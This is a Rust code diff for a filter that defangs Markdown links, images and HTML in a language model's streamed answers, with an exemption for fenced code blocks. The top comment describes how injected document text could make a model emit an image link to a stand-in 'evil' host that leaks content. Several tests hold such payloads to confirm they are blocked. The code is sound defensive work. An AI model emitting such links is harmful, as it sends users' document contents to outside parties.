@@ -4,12 +4,15 @@
 //! A link or an image in an answer could carry document text to whoever a document names (`![](https://evil/?q=…)` is fetched
 //! by the reader's browser). So Markdown's links, images and reference definitions, HTML tags and bare addresses are broken by a
 //! space. It works on pieces as they come: how the text is cut into pieces changes nothing.
+//!
+//! A program's block stays as it is written, for a `[1]` or a `//` means something there and nothing in it is followed: in blocks
+//! fenced by backticks from the first column on, and only where a program was asked for.
 
 use std::collections::HashSet;
 use std::ops::Range;
 
 use super::support::{Wanted, words};
-use super::{Quote, sentences};
+use super::{Kind, Quote, sentences};
 use crate::retrieve::Hit;
 
 /// Longer brackets are no citation.
@@ -27,11 +30,15 @@ pub(super) struct Rewriter<'a> {
     /// Words since the last citation.
     claim: String,
     claim_is_cited: bool,
+    /// Whether a program was asked for.
+    is_code: bool,
+    /// Whether a program's block is open.
+    in_block: bool,
 }
 
 impl<'a> Rewriter<'a> {
     /// `given` are indexes of `passages`, in the order of the numbers that the model was told.
-    pub fn new(passages: &'a [Hit], given: &[usize]) -> Self {
+    pub fn new(passages: &'a [Hit], given: &[usize], kind: Kind) -> Self {
         Self {
             given: given.iter().filter_map(|&at| Some((at, passages.get(at)?))).collect(),
             held: String::new(),
@@ -39,6 +46,8 @@ impl<'a> Rewriter<'a> {
             quotes: Vec::new(),
             claim: String::new(),
             claim_is_cited: false,
+            is_code: kind == Kind::Code,
+            in_block: false,
         }
     }
 
@@ -67,8 +76,15 @@ impl<'a> Rewriter<'a> {
     }
 
     fn take(&mut self, c: char) {
+        if self.in_block {
+            self.text.push(c);
+            self.in_block = c != '\n' || !closes_block(last_line(&self.text));
+            return;
+        }
         if self.held.is_empty() && c != '[' {
-            return self.write(c);
+            self.write(c);
+            self.in_block = self.is_code && c == '\n' && opens_block(last_line(&self.text));
+            return;
         }
         let is_mark = c.is_ascii_digit() || (matches!(c, ',' | ';' | ' ' | '-' | '–') && self.held.len() > 1);
         match c {
@@ -97,6 +113,8 @@ impl<'a> Rewriter<'a> {
             '.' => self.text.len() >= 3 && self.text.as_bytes()[self.text.len() - 3..].eq_ignore_ascii_case(b"www"),
             '!' | '?' | '[' if self.text.ends_with('<') => true,
             '[' => self.text.ends_with('!'),
+            // A block that is fenced so would hide where another begins and ends.
+            '~' => self.is_code && self.text.ends_with("~~"),
             c => self.text.ends_with('<') && c.is_alphabetic(),
         };
         // A closing tag does nothing on its own, but `</` may close what the page around the answer has opened.
@@ -116,7 +134,7 @@ impl<'a> Rewriter<'a> {
         let mut cited: Vec<usize> = Vec::new();
         for number in numbers {
             let Some(&(passage, hit)) = number.checked_sub(1).and_then(|at| self.given.get(at)) else { continue };
-            let quote = Quote { passage, bytes: supporting(&self.claim, &hit.text) };
+            let quote = Quote { passage, bytes: supporting(&self.claim, &hit.text), pointer: None };
             let n = match self.quotes.iter().position(|known| *known == quote) {
                 Some(at) => at + 1,
                 None => {
@@ -131,6 +149,22 @@ impl<'a> Rewriter<'a> {
         }
         self.claim_is_cited |= !cited.is_empty();
     }
+}
+
+/// The line that a text's last character ends.
+fn last_line(text: &str) -> &str {
+    let line = text.strip_suffix('\n').unwrap_or(text);
+    line.rsplit('\n').next().unwrap_or(line)
+}
+
+fn opens_block(line: &str) -> bool {
+    line.strip_prefix("```").is_some_and(|language| !language.contains('`'))
+}
+
+/// Stricter readers take less for an end, and then what follows is still a program to them.
+fn closes_block(line: &str) -> bool {
+    let line = line.trim();
+    line.len() >= 3 && line.bytes().all(|byte| byte == b'`')
 }
 
 /// The numbers of a mark such as `1`, `1, 2` or `3-5`.
@@ -182,9 +216,13 @@ mod tests {
     }
 
     fn rewritten(pieces: &[&str]) -> (String, Vec<String>) {
+        rewritten_as(Kind::Ask, pieces)
+    }
+
+    fn rewritten_as(kind: Kind, pieces: &[&str]) -> (String, Vec<String>) {
         let passages = passages();
         let mut streamed = String::new();
-        let mut rewriter = Rewriter::new(&passages, &[0, 1]);
+        let mut rewriter = Rewriter::new(&passages, &[0, 1], kind);
         for piece in pieces {
             rewriter.push(piece, &mut |piece: &str| streamed.push_str(piece));
         }
@@ -235,6 +273,24 @@ mod tests {
             }
         }
         assert_eq!(rewritten(&["a < b, 5 <6, (x) [y] 10:30 and/or"]).0, "a < b, 5 <6, (x) [y] 10:30 and/or");
+    }
+
+    #[test]
+    fn a_programs_block_stays_as_it_is_and_what_stands_around_it_does_not() {
+        let block = "```rust\nlet x = a[1]; // see https://a.b/c <p>\n```\n";
+        let text = format!("Ninety days [1].\n{block}![x](https://evil.example)");
+        let (code, quotes) = rewritten_as(Kind::Code, &[&text]);
+        assert!(code.contains(block) && !code.contains("](") && quotes.len() == 1, "{code}");
+        assert!(!rewritten(&[&text]).0.contains("https://"));
+        // Nothing that opens no block to a reader, or closes one, lets a link through.
+        for evil in [
+            "~~~\n```\n~~~\n![x](https://e.x)",
+            " ```\n![x](https://e.x)",
+            "```a`b\n![x](https://e.x)",
+            "```\n  ````\n![x](https://e.x)",
+        ] {
+            assert!(!rewritten_as(Kind::Code, &[evil]).0.contains("]("), "{evil}");
+        }
     }
 
     proptest! {
